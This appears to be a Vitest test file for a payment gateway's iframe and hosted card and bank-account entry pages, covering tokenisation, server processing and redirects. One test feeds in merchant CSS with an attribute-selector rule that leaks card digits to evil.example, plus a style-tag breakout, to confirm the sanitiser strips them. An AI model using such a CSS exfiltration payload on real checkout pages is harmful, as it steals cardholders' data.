/**
 * The frame pages (T9, D13) without JavaScript: the stored input, its processing by the merchant's server, and the
 * merchant's CSS.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PageCaller, SHOP, TYPED_ACCOUNT, TYPED_CARD, resultKeyIn, withoutKeys } from './page-caller.js';
import { inProcess, TARGETS, type ServiceUnderTest } from './service-under-test.js';
import { TokenCaller } from './token-caller.js';

const EVERY_WAY = TARGETS.flatMap((target) => (['v2', 'v3'] as const).map((version) => ({ ...target, version })));
const RETURN = { RedirectionUrl: SHOP };
const SUCCESS = { ResponseCode: 0, ResponseText: 'Success' };
const WITH_BUTTON = { ...RETURN, IframeParameters: { ShowSubmitButton: true } };

describe.each(EVERY_WAY)('frames of $version, $target', ({ open, version }) => {
  let service: ServiceUnderTest;
  let api: TokenCaller;
  let pages: PageCaller;
  const payFrame = (key: string) => `/webapi/${version}/txns/iframe/${key}`;
  const tokenFrame = (key: string) => `/webapi/${version}/dvtokens/iframe/${key}`;

  beforeAll(async () => {
    service = await open();
    api = new TokenCaller(service, version);
    pages = new PageCaller(service);
  });
  afterAll(() => service.close());

  it('T9, T10: the card is stored, and the merchant’s server charges it', async () => {
    const key = await api.key({}, RETURN);
    const kept = await pages.fill(payFrame(key), TYPED_CARD);
    expect(kept.status).toBe(200);
    expect(kept.html).toContain('Your details are ready.');
    expect(withoutKeys(kept.html)).not.toMatch(/4987|8769|739|Nov/);
    const { APIResponse, ResultKey } = await api.call(
      'POST',
      `/txns/processiframetxn/${key}`,
      { TxnReq: {} },
      {
        Authorization: api.authorization,
      },
    );
    expect(APIResponse).toEqual(SUCCESS);
    const { TxnResp } = await api.result(ResultKey);
    expect(TxnResp).toMatchObject({ ResponseCode: '0', CardType: 'VC', CVNResult: { CVNResultCode: 'M' } });
    expect((await pages.get(payFrame(key))).status).toBe(410);
  });

  it('D13: the frame of a key for cards saves no account, that of a key for accounts no card', async () => {
    const keyOf = (IsEddr: boolean) => api.addKey({}, { ...RETURN, HppParameters: { IsEddr } });
    const process = (key: string) => api.server('POST', `/dvtokens/iframe/add/${key}`, { DVTokenReq: {} });
    for (const [isEddr, wrong, right] of [
      [false, 'bank_account', TYPED_CARD],
      [true, 'card', TYPED_ACCOUNT],
    ] as const) {
      const key = await keyOf(isEddr);
      const { html } = await pages.get(tokenFrame(key));
      expect([html.includes('name="CardNumber"'), html.includes('name="BSBNumber"')]).toEqual([!isEddr, isEddr]);
      const typed: Readonly<Record<string, string>> = wrong === 'card' ? TYPED_CARD : TYPED_ACCOUNT;
      expect((await pages.post(`${tokenFrame(key)}?method=${wrong}`, typed)).status).toBe(422);
      expect((await process(key)).APIResponse.ResponseCode).toBe(112);
      expect((await pages.fill(tokenFrame(key), right)).status).toBe(200);
      const { ResultKey } = await process(key);
      const { DVTokenResp } = await api.tokenResult(ResultKey);
      expect([DVTokenResp.CardDetails !== null, DVTokenResp.BankAccountDetails !== null]).toEqual([!isEddr, isEddr]);
    }
  });

  it('T9: an invalid change clears the stored input', async () => {
    const key = await api.key({}, RETURN);
    await pages.fill(payFrame(key), TYPED_CARD);
    expect((await pages.fill(payFrame(key), { ...TYPED_CARD, CVN: '7' })).status).toBe(422);
    const { APIResponse } = await api.server('POST', `/txns/processiframetxn/${key}`, { TxnReq: {} });
    expect(APIResponse.ResponseCode).toBe(112);
    await pages.fill(payFrame(key), TYPED_CARD);
    expect((await api.server('POST', `/txns/processiframetxn/${key}`, { TxnReq: {} })).APIResponse).toEqual(SUCCESS);
  });

  it('T9: without an expiry the page asks for it, and the server may add it to the stored number', async () => {
    const key = await api.key({}, RETURN);
    const asked = await pages.fill(payFrame(key), { ...TYPED_CARD, ExpiryDate: '' });
    expect(asked.status).toBe(422);
    expect(asked.html).toContain('<a href="#expiry">Enter month and year</a>');
    const CardDetails = { ExpiryDateMonth: '11', ExpiryDateYear: '31' };
    const sent = { TxnReq: { CardDetails } };
    expect((await api.server('POST', `/txns/processiframetxn/${key}`, sent)).APIResponse).toEqual(SUCCESS);
  });

  it('T9 with a button: the frame itself pays and redirects to the merchant', async () => {
    const page = payFrame(await api.key({ Amount: 2_500 }, WITH_BUTTON));
    expect((await pages.get(page)).html).toContain('Pay $25.00</span></button>');
    const sent = await pages.fill(page, TYPED_CARD);
    expect(sent.status).toBe(303);
    expect((await api.result(resultKeyIn(sent))).TxnResp).toMatchObject({ Amount: 2_500, ResponseCode: '0' });
    expect((await pages.post(page, TYPED_CARD)).status).toBe(410);
  });

  it('D13, D11: the frame’s card becomes a token', async () => {
    const key = await api.addKey({ Crn1: 'customer 7' }, RETURN);
    await pages.fill(tokenFrame(key), TYPED_CARD);
    const { APIResponse, ResultKey } = await api.server('POST', `/dvtokens/iframe/add/${key}`, { DVTokenReq: {} });
    expect(APIResponse).toEqual(SUCCESS);
    expect((await api.tokenResult(ResultKey)).DVTokenResp).toMatchObject({ CardType: 'VC', Crn1: 'customer 7' });
  });

  it('D13, D11: the frame’s bank account becomes a token', async () => {
    const key = await api.addKey({}, RETURN);
    const kept = await pages.fill(`${tokenFrame(key)}?method=bank_account`, TYPED_ACCOUNT);
    expect(kept.html).toContain('Your details are ready.');
    expect(withoutKeys(kept.html)).not.toMatch(/063|8041|7726|Nov/);
    const { ResultKey } = await api.server('POST', `/dvtokens/iframe/add/${key}`, { DVTokenReq: {} });
    const { DVTokenResp } = await api.tokenResult(ResultKey);
    expect(DVTokenResp.BankAccountDetails).toMatchObject({ BSBNumber: '063917', AccountNumber: '80417726' });
  });

  it('D13 with a button, for an update: the frame changes the token itself', async () => {
    const { DVToken } = await api.added();
    const { AuthKey } = await api.askUpdateKey({ DVToken }, WITH_BUTTON);
    const sent = await pages.fill(tokenFrame(AuthKey), { ExpiryDate: '12/31' });
    expect(sent.status).toBe(303);
    expect((await api.tokenResult(resultKeyIn(sent))).DVTokenResp.CardDetails.ExpiryDate).toBe('1231');
  });

  it('D13, D11: an update is stored and then processed', async () => {
    const { DVToken } = await api.added();
    const { AuthKey } = await api.askUpdateKey({ DVToken }, RETURN);
    await pages.fill(tokenFrame(AuthKey), TYPED_CARD);
    await api.server('POST', `/dvtokens/iframe/update/${AuthKey}`, { DVTokenReq: {} });
    expect((await api.token(DVToken)).DVTokenResp.CardType).toBe('VC');
  });
});

describe('frames', () => {
  let service: ServiceUnderTest;
  let api: TokenCaller;
  let pages: PageCaller;

  beforeAll(async () => {
    service = await inProcess.open();
    api = new TokenCaller(service);
    pages = new PageCaller(service);
  });
  afterAll(() => service.close());

  it('may be framed by any merchant, and apply the allowed part of its CSS by hash', async () => {
    const CSS = 'button{color:#fff} input[value^="4"]{background:url(https://evil.example/4)} </style><script>';
    const key = await api.key({}, { ...RETURN, IframeParameters: { CSS, ShowSubmitButton: true } });
    const { headers, html } = await pages.get(`/webapi/v3/txns/iframe/${key}`);
    const policy = headers.get('content-security-policy') ?? '';
    expect(policy).toContain('frame-ancestors http: https:');
    expect(headers.has('x-frame-options')).toBe(false);
    expect(html).toContain('<style>button{color:#fff}</style>');
    expect(html).not.toMatch(/evil|value\^=/);
    const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode('button{color:#fff}'));
    expect(policy).toContain(`style-src 'self' 'sha256-${Buffer.from(hash).toString('base64')}'`);
  });

  it('the hosted page takes no CSS', async () => {
    const key = await api.key({}, { IframeParameters: { CSS: 'body{color:red}' } });
    expect((await pages.get(`/pay/DEMOSHOP?in_pay_token=${key}`)).html).not.toContain('<style>');
  });

  it('the page’s script gets the result of its form as JSON, without secrets', async () => {
    const key = await api.key({}, RETURN);
    const frame = `/webapi/v3/txns/iframe/${key}`;
    expect(await pages.postForJson(frame, TYPED_CARD)).toEqual({ outcome: 'stored' });
    const refused = await pages.postForJson(frame, { ...TYPED_CARD, CVN: '7' });
    expect(refused).toEqual({
      outcome: 'refused',
      errors: { cvn: 'A digit is missing' },
      message: 'Please fix these fields:',
    });
    const hosted = `/pay/DEMOSHOP?in_pay_token=${key}`;
    expect(await pages.postForJson(hosted, TYPED_CARD)).toEqual({
      outcome: 'done',
      url: expect.stringMatching(/^https:\/\/shop\.example\/back\?order=7&ResponseCode=0&/),
    });
    expect(await pages.postForJson(hosted, TYPED_CARD)).toEqual({ outcome: 'reload' });
    expect(await pages.postForJson(frame, TYPED_CARD)).toEqual({ outcome: 'reload' });
  });
});
